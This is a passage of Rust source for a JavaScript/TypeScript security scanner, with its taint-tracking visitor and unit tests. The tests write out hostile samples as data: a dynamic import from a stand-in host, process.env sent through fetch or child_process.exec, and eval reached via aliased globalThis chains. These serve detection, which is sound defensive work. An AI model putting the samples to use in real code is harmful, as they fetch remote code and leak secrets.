                let p = self.target_pat(&it.left);
                self.bind(&p, v, t);
            }
            other => {
                // `obj.field = secret`: the object now holds the data.
                if let Some(m) = other
                    .as_simple_assignment_target()
                    .and_then(|t| t.as_member_expression())
                {
                    // `module.exports = x`, `exports.k = x`: the module exports the data
                    // (a function's return taint too: `exports.get = () => secret`).
                    let is_module_exports = matches!(m, MemberExpression::StaticMemberExpression(sm)
                        if sm.property.name.as_str() == "exports"
                            && matches!(sm.object.get_inner_expression(), Expression::Identifier(id)
                                if id.name.as_str() == "module" && self.symbol_of(id).is_none()));
                    if is_module_exports || self.is_export_target(m.object()) {
                        self.export_taint |= t | self.exported_functions_taint(&it.right);
                    }
                    if let Some(s) = self.root_symbol(m.object()) {
                        self.set_taint(s, t & !(CRED | HOME));
                    }
                    // `o.k = globalThis` on an object built from literals: a new
                    // member; `o.m = () => globalThis`: a method returning it.
                    let target = match self.val(m.object()) {
                        Some(Val::Obj(id)) => Some(id),
                        _ => self.own_shape(m.object()),
                    };
                    if let Some(id) = target {
                        let rv = v.filter(|rv| self.trackable(*rv));
                        let rets = match v {
                            Some(Val::FnValue) if is_function_expr(&it.right) => self.method_returns(&it.right),
                            _ => Vec::new(),
                        };
                        if rv.is_some() || !rets.is_empty() {
                            let key = match m {
                                MemberExpression::StaticMemberExpression(sm) => {
                                    Some(sm.property.name.as_str().to_string())
                                }
                                MemberExpression::ComputedMemberExpression(cm) => self.fold(&cm.expression),
                                MemberExpression::PrivateFieldExpression(_) => None,
                            };
                            let mut add = Shape::default();
                            match (&key, rv) {
                                (Some(k), Some(rv)) => add.keys.push((k.clone(), rv)),
                                (None, Some(rv)) => add.unknown.push(rv),
                                _ => {}
                            }
                            if let Some(k) = key {
                                add.rets.extend(rets.into_iter().map(|r| (k.clone(), r)));
                            }
                            self.merge_shape(id, add);
                        }
                    }
                }
            }
        }
    }

    fn visit_function(&mut self, it: &Function<'a>, flags: ScopeFlags) {
        let own = it.id.as_ref().and_then(|id| id.symbol_id.get());
        if let Some(s) = own {
            if self.syms.params.get(s.index()).is_some_and(|x| x.is_none()) {
                self.set_params(s, params_of(&it.params));
            }
            // A signature without a body (TypeScript overload, `declare
            // function`) is erased: it gives the name no value.
            if it.body.is_some() && !it.declare {
                self.set_val(s, Val::FnValue);
            }
        }
        // A function expression bound to a name (`const f = function () {}`)
        // returns through that name.
        let sym = self.take_pending_fn(it.span.start).or(own);
        let method = std::mem::replace(&mut self.method_fn, u32::MAX) == it.span.start;
        let is_static = std::mem::replace(&mut self.static_fn, u32::MAX) == it.span.start;
        let frame = self.frame(sym, method, it.span.start);
        let saved = (self.strict, self.this_global);
        self.strict |= it.body.as_ref().is_some_and(|b| has_use_strict(&b.directives));
        self.this_global = !self.strict && !method;
        self.fn_depth += 1;
        self.ctx += 1;
        self.fn_stack.push(frame);
        // `this` is the method's object, or a constructor function's instance.
        let owners = (
            self.owner.take(),
            std::mem::replace(&mut self.this_owner, if method { frame.owner } else { sym }),
            std::mem::replace(&mut self.this_static, is_static),
            std::mem::replace(
                &mut self.this_unbound,
                self.unbound_class
                    .filter(|_| std::mem::replace(&mut self.unbound_fn, u32::MAX) == it.span.start),
            ),
        );
        let floor = std::mem::replace(&mut self.try_floor, self.thrown.len());
        self.unit(unit_key(0, it.span), |w| {
            w.isolated(|w| walk::walk_function(w, it, flags));
        });
        self.try_floor = floor;
        (self.owner, self.this_owner, self.this_static, self.this_unbound) = owners;
        self.fn_stack.pop();
        self.fn_depth -= 1;
        (self.strict, self.this_global) = saved;
        self.ctx += 1;
    }

    fn visit_arrow_function_expression(&mut self, it: &ArrowFunctionExpression<'a>) {
        let sym = self.take_pending_fn(it.span.start);
        // (Taken only by the arrow it names: an arrow before a method's
        // function, in a computed key, leaves it to that function.)
        let method = self.method_fn == it.span.start;
        if method {
            self.method_fn = u32::MAX;
        }
        let frame = self.frame(sym, method, it.span.start);
        self.fn_stack.push(frame);
        // (`this` is the enclosing function's.)
        let owner = self.owner.take();
        let floor = std::mem::replace(&mut self.try_floor, self.thrown.len());
        self.unit(unit_key(1, it.span), |w| {
            w.isolated(|w| {
                let Some(body) = it.get_expression() else {
                    return walk::walk_arrow_function_expression(w, it);
                };
                // An expression body is what the arrow returns.
                w.visit_formal_parameters(&it.params);
                let t = w.taint_of(|w| w.visit_expression(body));
                if let Some(f) = sym {
                    w.add_ret(f, t);
                    if let Some(v) = w.val(body).filter(|v| w.trackable(*v)) {
                        w.set_retv(f, v);
                    }
                }
            });
        });
        self.try_floor = floor;
        self.owner = owner;
        self.fn_stack.pop();
    }

    fn visit_return_statement(&mut self, it: &ReturnStatement<'a>) {
        let Some(arg) = &it.argument else { return };
        self.exempt_require.remove(arg.get_inner_expression().span().start);
        let t = self.taint_of(|s| s.visit_expression(arg));
        if let Some(f) = self.fn_stack.last().and_then(|fr| fr.sym) {
            self.add_ret(f, t);
            if let Some(v) = self.val(arg).filter(|v| self.trackable(*v)) {
                self.set_retv(f, v);
            }
        }
    }

    fn visit_class(&mut self, it: &Class<'a>) {
        // Class bodies are strict code. Its methods are the class's (a class
        // expression's: those of what it is bound to, if anything).
        let saved = std::mem::replace(&mut self.strict, true);
        let id = it.id.as_ref().and_then(|id| id.symbol_id.get());
        let owner = match it.r#type {
            ClassType::ClassDeclaration => id.or(self.owner),
            ClassType::ClassExpression => self.owner.or(id),
        };
        self.note_supers(it);
        if let Some(o) = owner {
            self.class_shapes(it, o);
        }
        let unbound = std::mem::replace(&mut self.unbound_class, owner.is_none().then_some(it.span.start));
        let owner = std::mem::replace(&mut self.owner, owner);
        self.ctx += 1;
        walk::walk_class(self, it);
        self.owner = owner;
        self.unbound_class = unbound;
        self.strict = saved;
        self.ctx += 1;
    }

    fn visit_method_definition(&mut self, it: &MethodDefinition<'a>) {
        if it.kind == MethodDefinitionKind::Constructor {
            // The constructor is the class's function: `new C()` throws what it throws.
            self.pending_fn = self.owner.map(|c| (it.value.span.start, c));
        } else {
            self.method_fn = it.value.span.start;
        }
        if it.r#static {
            self.static_fn = it.value.span.start;
        }
        if self.unbound_class.is_some() {
            self.unbound_fn = it.value.span.start;
        }
        walk::walk_method_definition(self, it);
    }

    fn visit_property_definition(&mut self, it: &PropertyDefinition<'a>) {
        // A class field holding a function (`m = () => {…}`) is a method.
        if let Some(v) = it.value.as_ref().filter(|v| is_function_expr(v)) {
            self.method_fn = v.get_inner_expression().span().start;
        }
        walk::walk_property_definition(self, it);
    }

    fn visit_object_property(&mut self, it: &ObjectProperty<'a>) {
        // A function stored in an object is a method: its `this` is the object.
        if is_function_expr(&it.value) {
            self.method_fn = it.value.get_inner_expression().span().start;
        }
        walk::walk_object_property(self, it);
    }

    fn visit_with_statement(&mut self, it: &WithStatement<'a>) {
        // Names inside resolve to the object's members first. An object not
        // known statically, or one that can reach eval, Function, the loader
        // or process internals by name, fails closed.
        let ov = self.val(&it.object);
        if ov.is_none() || self.powerful(ov) {
            self.hit(RuleId::DynamicAccess, it.object.span());
        }
        self.visit_expression(&it.object);
        self.with_stack.push(ov);
        self.ctx += 1;
        self.visit_statement(&it.body);
        self.with_stack.pop();
        self.ctx += 1;
    }

    fn visit_for_of_statement(&mut self, it: &ForOfStatement<'a>) {
        // The loop variable holds each element of an array built from literals.
        let els = match self.val(&it.right) {
            Some(Val::Obj(id)) => self.elements(id),
            _ => Vec::new(),
        };
        let t = self.taint_of(|w| w.visit_expression(&it.right));
        match &it.left {
            ForStatementLeft::VariableDeclaration(d) => {
                self.visit_variable_declaration(d);
                for decl in &d.declarations {
                    self.bind_each(&pat_of(&decl.id), &els, t);
                }
            }
            other => {
                if let Some(target) = other.as_assignment_target() {
                    self.visit_assignment_target(target);
                    let p = self.target_pat(target);
                    self.bind_each(&p, &els, t);
                }
            }
        }
        self.visit_statement(&it.body);
    }

    fn visit_try_statement(&mut self, it: &TryStatement<'a>) {
        // A catch parameter holds what the block throws.
        self.thrown.push(Vals::Empty);
        self.visit_block_statement(&it.block);
        let vs = self.thrown.pop().unwrap_or_default();
        if let Some(h) = &it.handler {
            if let Some(p) = &h.param {
                self.visit_binding_pattern(&p.pattern);
                let pat = pat_of(&p.pattern);
                match vs.as_slice() {
                    [] => self.bind(&pat, None, 0),
                    all => {
                        for v in all {
                            self.bind(&pat, Some(*v), 0);
                        }
                    }
                }
            }
            self.visit_block_statement(&h.body);
        }
        if let Some(f) = &it.finalizer {
            self.visit_block_statement(f);
        }
    }

    fn visit_await_expression(&mut self, it: &AwaitExpression<'a>) {
        // Awaiting a rejected promise throws its value (an awaited call to a
        // throwing function already threw it at the call); after the visit,
        // which finds what a `new Promise` executor rejects with.
        walk::walk_await_expression(self, it);
        if let Some(v) = self.rejection_val(&it.argument) {
            self.throw_val(v);
        }
    }

    fn visit_throw_statement(&mut self, it: &ThrowStatement<'a>) {
        if let Some(v) = self.val(&it.argument).filter(|v| self.trackable(*v)) {
            self.throw_val(v);
        }
        self.visit_expression(&it.argument);
    }

    fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
        let t = self.taint_of(|s| s.visit_expression(&it.source));
        match self.fold(&it.source) {
            Some(spec) => self.module(&spec, it.source.span()),
            None => {
                // As for `require`: each module the rules classify among the
                // specifier's choices or followed strings is loaded here too.
                for spec in self.fold_specs(&it.source) {
                    if classify_module(&spec) != ModuleClass::Other {
                        self.module(&spec, it.source.span());
                    }
                }
                let kw = Span::new(it.span.start, it.span.start + 6);
                self.hit(RuleId::DynamicImport, kw);
                if t & REMOTE != 0 {
                    self.hit(RuleId::FetchAndRun, kw);
                }
            }
        }
        if let Some(o) = &it.options {
            self.visit_expression(o);
        }
    }

    fn visit_import_declaration(&mut self, it: &ImportDeclaration<'a>) {
        if it.import_kind == ImportOrExportKind::Type {
            return;
        }
        let spec = it.source.value.as_str();
        self.module(spec, it.source.span);
        let it_taint = self.import_taint(spec);
        if it_taint != 0 {
            for s in it.specifiers.iter().flatten() {
                let sym = match s {
                    ImportDeclarationSpecifier::ImportSpecifier(is) => is.local.symbol_id.get(),
                    ImportDeclarationSpecifier::ImportDefaultSpecifier(d) => d.local.symbol_id.get(),
                    ImportDeclarationSpecifier::ImportNamespaceSpecifier(n) => n.local.symbol_id.get(),
                };
                if let Some(sym) = sym {
                    self.set_taint(sym, it_taint);
                }
            }
        }
        let b = builtin_of(spec);
        if let Some(specs) = &it.specifiers {
            for s in specs {
                match s {
                    ImportDeclarationSpecifier::ImportSpecifier(is) => {
                        if is.import_kind == ImportOrExportKind::Type {
                            continue;
                        }
                        let name = match &is.imported {
                            ModuleExportName::IdentifierName(n) => n.name.as_str(),
                            ModuleExportName::IdentifierReference(n) => n.name.as_str(),
                            ModuleExportName::StringLiteral(n) => n.value.as_str(),
                        };
                        if let (Some(sym), Some(v)) = (is.local.symbol_id.get(), member(Some(Val::Mod(b)), name)) {
                            if b != Builtin::Other {
                                self.set_val(sym, v);
                            }
                        }
                    }
                    ImportDeclarationSpecifier::ImportDefaultSpecifier(d) => {
                        if let Some(sym) = d.local.symbol_id.get() {
                            if b != Builtin::Other {
                                self.set_val(sym, Val::Mod(b));
                            }
                        }
                    }
                    ImportDeclarationSpecifier::ImportNamespaceSpecifier(n) => {
                        if let Some(sym) = n.local.symbol_id.get() {
                            if b != Builtin::Other {
                                self.set_val(sym, Val::Mod(b));
                            }
                        }
                    }
                }
            }
        }
    }

    fn visit_export_declaration(&mut self, it: &ExportDeclaration<'a>) {
        walk::walk_export_declaration(self, it);
        let mut t = 0u8;
        match &it.declaration {
            Declaration::VariableDeclaration(v) => {
                for d in &v.declarations {
                    for id in d.id.get_binding_identifiers() {
                        if let Some(s) = id.symbol_id.get() {
                            t |= self.symbol_export_taint(s);
                        }
                    }
                }
            }
            Declaration::FunctionDeclaration(f) => {
                if let Some(s) = f.id.as_ref().and_then(|id| id.symbol_id.get()) {
                    t |= self.symbol_export_taint(s);
                }
            }
            _ => {}
        }
        self.export_taint |= t;
    }

    fn visit_export_named_declaration(&mut self, it: &ExportNamedDeclaration<'a>) {
        walk::walk_export_named_declaration(self, it);
        if it.export_kind == ImportOrExportKind::Type {
            return;
        }
        let mut t = 0u8;
        for sp in &it.specifiers {
            if let ModuleExportName::IdentifierReference(r) = &sp.local {
                if let Some(s) = self.symbol_of(r) {
                    t |= self.symbol_export_taint(s);
                }
            }
        }
        self.export_taint |= t;
    }

    fn visit_export_default_declaration(&mut self, it: &ExportDefaultDeclaration<'a>) {
        match &it.declaration {
            ExportDefaultDeclarationKind::FunctionDeclaration(f) => {
                self.visit_function(f, ScopeFlags::Function);
                if let Some(s) = f.id.as_ref().and_then(|id| id.symbol_id.get()) {
                    self.export_taint |= self.symbol_export_taint(s);
                }
            }
            other => match other.as_expression() {
                Some(e) => {
                    let t = self.taint_of(|w| w.visit_expression(e));
                    self.export_taint |= t | self.exported_functions_taint(e);
                }
                None => walk::walk_export_default_declaration(self, it),
            },
        }
    }

    fn visit_export_from_declaration(&mut self, it: &ExportFromDeclaration<'a>) {
        if it.export_kind == ImportOrExportKind::Type {
            return;
        }
        self.module(it.source.value.as_str(), it.source.span);
    }

    fn visit_export_all_declaration(&mut self, it: &ExportAllDeclaration<'a>) {
        if it.export_kind == ImportOrExportKind::Type {
            return;
        }
        self.module(it.source.value.as_str(), it.source.span);
    }

    fn visit_ts_import_equals_declaration(&mut self, it: &TSImportEqualsDeclaration<'a>) {
        if it.import_kind == ImportOrExportKind::Type {
            return;
        }
        if let TSModuleReference::ExternalModuleReference(r) = &it.module_reference {
            let spec = r.expression.value.as_str();
            self.module(spec, r.expression.span);
            if let Some(sym) = it.id.symbol_id.get() {
                let b = builtin_of(spec);
                if b != Builtin::Other {
                    self.set_val(sym, Val::Mod(b));
                }
            }
        }
    }

    fn visit_formal_parameter(&mut self, it: &FormalParameter<'a>) {
        // Default values bind like declarations.
        self.visit_binding_pattern(&it.pattern);
        if let Some(init) = &it.initializer {
            let v = self.val(init);
            let t = self.taint_of(|s| s.visit_expression(init));
            self.bind(&pat_of(&it.pattern), v, t);
        }
    }

    fn visit_variable_declaration(&mut self, it: &VariableDeclaration<'a>) {
        // (`declare const process: any` names the runtime global: references
        // to an ambient declaration resolve as globals, see `symbol_of`.)
        let saved = self.in_const;
        self.in_const = it.kind == VariableDeclarationKind::Const;
        walk::walk_variable_declaration(self, it);
        self.in_const = saved;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(src: &str) -> Vec<RuleId> {
        let a = analyze("t.js", src);
        assert!(a.parse_errors.is_empty(), "{src}: {:?}", a.parse_errors);
        a.hits.iter().map(|h| h.rule).collect()
    }

    /// [`source_type_for`] as first written (lower-case copies of the label
    /// and the extension): the reference the allocation-free one is checked against.
    fn source_type_reference(label: &str) -> SourceType {
        let ext = std::path::Path::new(label)
            .extension()
            .and_then(|e| e.to_str())
            .map(|e| e.to_ascii_lowercase());
        let lower = label.to_ascii_lowercase();
        if [".d.ts", ".d.mts", ".d.cts"].iter().any(|s| lower.ends_with(s)) {
            return SourceType::d_ts();
        }
        match ext.as_deref() {
            Some(e @ ("ts" | "mts" | "cts" | "tsx" | "mjs" | "cjs" | "jsx")) => {
                SourceType::from_extension(e).unwrap_or_else(|_| SourceType::unambiguous())
            }
            _ => SourceType::unambiguous().with_jsx(true),
        }
    }

    /// SLO-02: every file is parsed as the language its name says, in any
    /// case of its extension (a `.TS` file is TypeScript, a `.D.MTS` file a
    /// declaration file, a name without one unambiguous JavaScript with JSX).
    #[test]
    fn slo_02_source_type_follows_the_file_name_in_any_case() {
        let stems = [
            "index",
            "a/b/index",
            ".hidden",
            "dir.ts/file",
            "x.d",
            "pkg/.ts",
            "",
            "a.",
        ];
        let exts = [
            "", ".js", ".ts", ".TS", ".Ts", ".mts", ".MTS", ".cts", ".tsx", ".TSX", ".mjs", ".MJS", ".cjs", ".jsx",
            ".JSX", ".json", ".d.ts", ".D.TS", ".d.mts", ".d.Mts", ".d.cts", ".d.CTS", ".ts.js", ".js.ts",
        ];
        for stem in stems {
            for ext in exts {
                let label = format!("{stem}{ext}");
                assert_eq!(source_type_for(&label), source_type_reference(&label), "{label:?}");
            }
        }
        assert!(source_type_for("X.TS").is_typescript());
        assert!(source_type_for("types.D.TS").is_typescript_definition());
        assert!(source_type_for("index").is_jsx());
    }

    /// SLO-02: the rules on a module specifier read its scheme and extension
    /// in any case, as Node does (`DATA:`, `HTTPS:`, `.NODE`).
    #[test]
    fn slo_02_specifier_rules_read_schemes_and_extensions_in_any_case() {
        for (lower, upper, rule) in [
            (
                "import('data:text/javascript,1')",
                "import('DATA:text/javascript,1')",
                RuleId::EvalCall,
            ),
            (
                "import('https://x.test/a.js')",
                "import('HTTPS://x.test/a.js')",
                RuleId::FetchAndRun,
            ),
            (
                "import('http://x.test/a.js')",
                "import('Http://x.test/a.js')",
                RuleId::FetchAndRun,
            ),
            (
                "require('./addon.node')",
                "require('./addon.NODE')",
                RuleId::NativeAddon,
            ),
        ] {
            let (a, b) = (analyze("t.mjs", lower), analyze("t.mjs", upper));
            let (ra, rb): (Vec<RuleId>, Vec<RuleId>) = (
                a.hits.iter().map(|h| h.rule).collect(),
                b.hits.iter().map(|h| h.rule).collect(),
            );
            assert!(ra.contains(&rule), "{lower}: {ra:?}");
            assert_eq!(ra, rb, "{upper}");
        }
    }

    #[test]
    fn aliases_follow_bindings() {
        assert_eq!(rules("const g = globalThis; g.eval(x)"), vec![RuleId::EvalCall]);
        assert_eq!(
            rules("function f(g) { return g.eval } f(globalThis)"),
            vec![RuleId::EvalCall]
        );
        assert_eq!(
            rules("run(globalThis); function run(g) { g['ev' + 'al'](1) }"),
            vec![RuleId::EvalCall]
        );
        assert_eq!(rules("const r = require; r('vm')"), vec![RuleId::ForbiddenBuiltin]);
        assert_eq!(rules("function eval2(eval) { eval(x) }"), Vec::<RuleId>::new());
        assert_eq!(
            rules("const { binding: b } = process; b('x')"),
            vec![RuleId::ProcessBinding]
        );
        assert_eq!(rules("let p; p = process; p.dlopen()"), vec![RuleId::ProcessDlopen]);
        // An ambient declaration names the runtime global.
        let a = analyze("t.ts", "declare const process: any; process?.binding?.('x')");
        assert_eq!(
            a.hits.iter().map(|h| h.rule).collect::<Vec<_>>(),
            vec![RuleId::ProcessBinding]
        );
    }

    /// Everything an analysis reports, for comparisons.
    fn report(label: &str, src: &str, shortcuts: Shortcuts) -> String {
        let a = analyze_in(&Allocator::default(), label, src, &[], shortcuts);
        format!(
            "{:?} {:?} {:?} {:?} {:?} {}",
            a.hits, a.capabilities, a.specifiers, a.effects, a.parse_errors, a.export_taint
        )
    }

    const NO_REPLAY: Shortcuts = Shortcuts {
        replay: false,
        hints: true,
    };
    const NO_HINTS: Shortcuts = Shortcuts {
        replay: true,
        hints: false,
    };

    /// Every source of the corpus the scanner benchmark reads (within the
    /// nesting guard): label and text. At least 100 of them.
    fn corpus_sources() -> Vec<(String, String)> {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../corpus/extensions");
        let mut stack = vec![root];
        let mut out = Vec::new();
        while let Some(d) = stack.pop() {
            let Ok(rd) = std::fs::read_dir(&d) else { continue };
            for e in rd.flatten() {
                let p = e.path();
                let Ok(m) = std::fs::symlink_metadata(&p) else { continue };
                if m.is_dir() {
                    stack.push(p);
                } else if super::super::is_source_file(&p) {
                    let Ok(src) = std::fs::read_to_string(&p) else { continue };
                    if guard::nesting_estimate(src.as_bytes()) <= guard::MAX_NESTING {
                        out.push((p.display().to_string(), src));
                    }
                }
            }
        }
        assert!(out.len() > 100, "{} corpus files", out.len());
        out
    }

    #[test]
    fn repeated_walks_repeat_unchanged_units_exactly() {
        // Uses before definitions, across functions and top-level statements,
        // through parameters, return taint, shapes and folded constants: each
        // needs more than one walk.
        let cases = [
            "run(globalThis); function run(g) { g['ev' + 'al'](1) }",
            "function a() { return b() } function b() { return c } const c = process.env; fetch(u, {body: a()})",
            "o.g.eval(x); var o = {}; o.g = globalThis; function f() { o.p = process } f(); o.p.binding('x')",
            "const k = p + 'al'; const p = 'ev'; globalThis[k](x); (() => { globalThis[k](y) })()",
            "f(require); function f(r) { g(r) } function g(q) { q('child_process').exec(d) } var d = JSON.stringify(process.env)",
            "exports.x = get(); function get() { return os.hostname() } var os = require('os')",
        ];
        for case in cases {
            // A bystander that reads nothing the other statements bind is repeated.
            let src = &format!("const z = [1, 2].map(v => v + 1);\n{case}");
            REPLAYS.with(|c| c.set(0));
            assert_eq!(report("t.js", src, SHORTCUTS), report("t.js", src, NO_REPLAY), "{src}");
            assert!(REPLAYS.with(|c| c.get()) > 0, "{src}: no unit was repeated");
            assert!(!rules(src).is_empty(), "{src}");
        }
        // The corpus (every source the scanner benchmark reads).
        for (label, src) in corpus_sources() {
            assert_eq!(
                report(&label, &src, SHORTCUTS),
                report(&label, &src, NO_REPLAY),
                "{label}"
            );
        }
    }

    /// SLO-02: a static member chain's visits take each level's object value
    /// from the evaluation of the level above ([`Walker::member_val`]); what
    /// the scanner reports is exactly what evaluating every level again
    /// reports: chains as callees, initializers and assigned values, inside
    /// `with`, classes and functions, used before they are bound, and chains
    /// around the evaluation's depth bound (64), where a value is cut off.
    #[test]
    fn slo_02_member_value_hints_report_what_evaluation_does() {
        let same = |src: &str| assert_eq!(report("t.js", src, SHORTCUTS), report("t.js", src, NO_HINTS), "{src}");
        for src in [
            "const a = {g: globalThis}; a.g.eval(x); const e = a.g.eval; let f; f = a.g.process.binding;",
            "g.o.p.binding('x'); var g = {o: {p: process}}; class C { m() { return g.o.p.dlopen } }",
            "with (process) { env.X; binding.call(null) } process.env.HOME.length; require('os').hostname().x",
            "function f(o) { return o.a.b.eval } f({a: {b: globalThis}}).call(0); module.parent.require('vm')",
        ] {
            same(src);
        }
        // Both sides of the depth bound (64) are exercised; past it the
        // object is judged as the global object, so `eval` is reached at
        // every depth.
        for n in [1, 10, 61, 62, 63, 64, 65, 66, 70] {
            let c = format!("globalThis{}", ".globalThis".repeat(n));
            let src = format!("{c}.eval(x); const v = {c}.eval; let w; w = {c}.process.binding; f({c}.Function)");
            same(&src);
            assert!(rules(&src).contains(&RuleId::EvalCall), "depth {n}");
        }
        for (label, src) in corpus_sources() {
            assert_eq!(
                report(&label, &src, SHORTCUTS),
                report(&label, &src, NO_HINTS),
                "{label}"
            );
        }
    }

    /// SLO-02: a member chain deeper than the value evaluation's bound does
    /// not hide what it reaches: past the bound the object is judged as the
    /// global object (`globalThis` followed by 65 or more `.globalThis`, then
    /// `.eval`, `['eval']`, `.process.binding`, `.Function`). SLO-03, its
    /// twin: deep chains of ordinary names (a builder with hundreds of calls,
    /// a deep namespace) stay clean.
    #[test]
    fn slo_02_a_member_chain_past_the_evaluation_bound_is_judged_on_the_global_object() {
        for n in [65, 66, 100, 300] {
            let c = format!("globalThis{}", ".globalThis".repeat(n));
            for (src, rule) in [
                (format!("{c}.eval(x)"), RuleId::EvalCall),
                (format!("{c}['eval'](x)"), RuleId::EvalCall),
                (format!("{c}.process.binding('fs')"), RuleId::ProcessBinding),
                (format!("new ({c}.Function)('return 1')"), RuleId::FunctionConstructor),
            ] {
                assert!(rules(&src).contains(&rule), "depth {n}: {src:.60}… lacks {rule:?}");
            }
        }
        for n in [65, 100, 300] {
            let builder = format!("cli(){};", ".option('x', {}).describe('y')".repeat(n));
            let namespace = format!("const v = ns{}.value;", ".inner".repeat(n));
            for src in [builder, namespace] {
                let found = rules(&src);
                assert!(found.is_empty(), "depth {n}: {src:.60}… flagged {found:?}");
            }
        }
    }

    #[test]
    fn slo_02_a_value_thrown_by_a_called_function_reaches_the_catch_parameter() {
        // Each scanned clean before: `throw eval` is found where eval is
        // named, but the global object and `process` are ordinary values there.
        for (src, rule) in [
            // Thrown by the function the try block calls, declared before or after.
            ("function f() { throw globalThis; }\ntry { f(); } catch (e) { e.eval(x); }", RuleId::EvalCall),
            ("try { f(); } catch (e) { e.eval(x); }\nfunction f() { throw globalThis; }", RuleId::EvalCall),
            // Through a second function, an arrow, a constructor call, an async function.
            (
                "function g() { throw process; }\nfunction f() { g(); }\ntry { f(); } catch (e) { e.binding('fs'); }",
                RuleId::ProcessBinding,
            ),
            ("const f = () => { throw process; };\ntry { f(); } catch (e) { e.dlopen(m, p); }", RuleId::ProcessDlopen),
            ("function F() { throw globalThis; }\ntry { new F(); } catch (e) { e.eval(x); }", RuleId::EvalCall),
            (
                "async function f() { throw globalThis; }\nasync function m() { try { await f(); } catch (e) { e.Function('x')(); } }",
                RuleId::FunctionConstructor,
            ),
            // A throw the function catches itself does not hide a later one.
            (
                "function f() { try { throw 1; } catch (_) {} throw globalThis; }\ntry { f(); } catch (e) { e.eval(x); }",
                RuleId::EvalCall,
            ),
        ] {
            assert!(rules(src).contains(&rule), "{src:?} lacks {rule:?}: {:?}", rules(src));
        }
        // Rejections: a rejection handler, and an awaited rejection in a try block.
        for (src, rule) in [
            ("Promise.reject(globalThis).catch((g) => g.eval(x));", RuleId::EvalCall),
            (
                "Promise.reject(process).then(() => 1).finally(() => 0).then(null, (p) => p.binding('fs'));",
                RuleId::ProcessBinding,
            ),
            (
                "async function f() { throw globalThis; }\nf().catch(function (g) { g.eval(x); });",
                RuleId::EvalCall,
            ),
            (
                "async function m() { try { await Promise.reject(process); } catch (p) { p.dlopen(a, b); } }",
                RuleId::ProcessDlopen,
            ),
        ] {
            assert!(rules(src).contains(&rule), "{src:?} lacks {rule:?}: {:?}", rules(src));
        }
        // Benign twins: an error thrown and caught, a value the function
        // throws and catches itself, an error passed in and rethrown, a
        // promise rejected with an error.
        for src in [
            "function f() { throw new Error('no'); }\ntry { f(); } catch (e) { console.log(e.message); }",
            "function f() { try { throw process; } catch (p) { return 1; } }\ntry { f(); } catch (e) { e.binding(x); }",
            "function f(err) { throw err; }\ntry { f(new TypeError('t')); } catch (e) { report(e); }",
            "Promise.reject(new Error('x')).catch((e) => console.error(e.stack));",
            "fetch(u).then((r) => r.json(), (e) => log(e.message));",
        ] {
            let found = rules(src);
            assert!(found.is_empty(), "{src:?} flagged {found:?}");
        }
    }

    /// The cases of an SLO-02 route: each source is found with its rule,
    /// each benign twin is clean, and every one reports the same without
    /// the walk's shortcuts (repeated walks, member value hints).
    fn assert_route(found: &[(&str, RuleId)], clean: &[&str]) {
        for &(src, rule) in found {
            assert!(rules(src).contains(&rule), "{src:?} lacks {rule:?}: {:?}", rules(src));
        }
        for &src in clean {
            let flagged = rules(src);
            assert!(flagged.is_empty(), "{src:?} flagged {flagged:?}");
        }
        for src in found.iter().map(|(s, _)| *s).chain(clean.iter().copied()) {
            assert_eq!(report("t.js", src, SHORTCUTS), report("t.js", src, NO_REPLAY), "{src}");
            assert_eq!(report("t.js", src, SHORTCUTS), report("t.js", src, NO_HINTS), "{src}");
        }
    }

    #[test]
    fn slo_02_a_value_thrown_by_a_method_reaches_the_catch_parameter() {
        // Each scanned clean before: only functions called by name passed
        // what they throw.
        let found = [
            // Methods of an object literal: shorthand, function and arrow
            // values, a nested literal, an object used before its definition.
            ("const o = { m() { throw globalThis; } };\ntry { o.m(); } catch (g) { g.eval(x); }", RuleId::EvalCall),
            (
                "const o = { m: function () { throw process; } };\ntry { o.m(); } catch (p) { p.binding('fs'); }",
                RuleId::ProcessBinding,
            ),
            ("const o = { m: () => { throw process; } };\ntry { o.m(); } catch (p) { p.dlopen(a, b); }", RuleId::ProcessDlopen),
            (
                "const o = { inner: { m() { throw globalThis; } } };\ntry { o.inner.m(); } catch (g) { g.eval(x); }",
                RuleId::EvalCall,
            ),
            (
                "function run() { try { o.m(); } catch (g) { g.eval(x); } }\nconst o = { m() { throw globalThis; } };\nrun();",
                RuleId::EvalCall,
            ),
            // Class methods: on a new instance, on an instance stored first,
            // static, of a class expression, called through `this`.
            ("class C { m() { throw globalThis; } }\ntry { new C().m(); } catch (g) { g.eval(x); }", RuleId::EvalCall),
            (
                "class C { m() { throw globalThis; } }\nconst c = new C();\ntry { c.m(); } catch (g) { g.eval(x); }",
                RuleId::EvalCall,
            ),
            (
                "class C { static m() { throw process; } }\ntry { C.m(); } catch (p) { p.binding('fs'); }",
                RuleId::ProcessBinding,
            ),
            (
                "const C = class { static m() { throw globalThis; } };\ntry { C.m(); } catch (g) { g.eval(x); }",
                RuleId::EvalCall,
            ),
            (
                "class C { a() { throw globalThis; } b() { try { this.a(); } catch (g) { g.eval(x); } } }",
                RuleId::EvalCall,
            ),
            // Methods assigned to a member, to a prototype; a method that
            // calls a throwing function; an alias of the object.
            (
                "const o = {};\no.m = () => { throw process; };\ntry { o.m(); } catch (p) { p.binding('fs'); }",
                RuleId::ProcessBinding,
            ),
            (
                "function F() {}\nF.prototype.m = function () { throw globalThis; };\ntry { new F().m(); } catch (g) { g.eval(x); }",
                RuleId::EvalCall,
            ),
            (
                "function f() { throw globalThis; }\nconst o = { m() { f(); } };\nconst a = o;\ntry { a.m(); } catch (g) { g.eval(x); }",
                RuleId::EvalCall,
            ),
            // An async method rejects its promise; a class constructor's
            // throw escapes `new C()`; `this` in an object literal's method.
            ("const o = { async m() { throw globalThis; } };\no.m().catch((g) => g.eval(x));", RuleId::EvalCall),
            ("class C { constructor() { throw globalThis; } }\ntry { new C(); } catch (g) { g.eval(x); }", RuleId::EvalCall),
            (
                "const o = { a() { throw process; }, b() { try { this.a(); } catch (p) { p.binding('fs'); } } };",
                RuleId::ProcessBinding,
            ),
        ];
        // Benign twins: methods that throw errors, a method that catches its
        // own throw, another object's method.
        let clean = [
            "const o = { m() { throw new Error('x'); } };\ntry { o.m(); } catch (e) { console.log(e.message); }",
            "class C { m() { throw new TypeError('t'); } static s() { throw new Error('s'); } }\ntry { new C().m(); C.s(); } catch (e) { report(e.stack); }",
